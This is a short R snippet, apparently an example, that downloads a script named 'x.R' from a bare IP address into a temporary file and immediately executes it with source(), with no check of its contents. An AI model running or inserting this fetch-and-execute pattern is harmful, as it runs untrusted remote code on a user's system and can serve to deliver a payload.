tf <- tempfile()
curl::curl_download("https://203.0.113.1/x.R", tf)
source(tf)
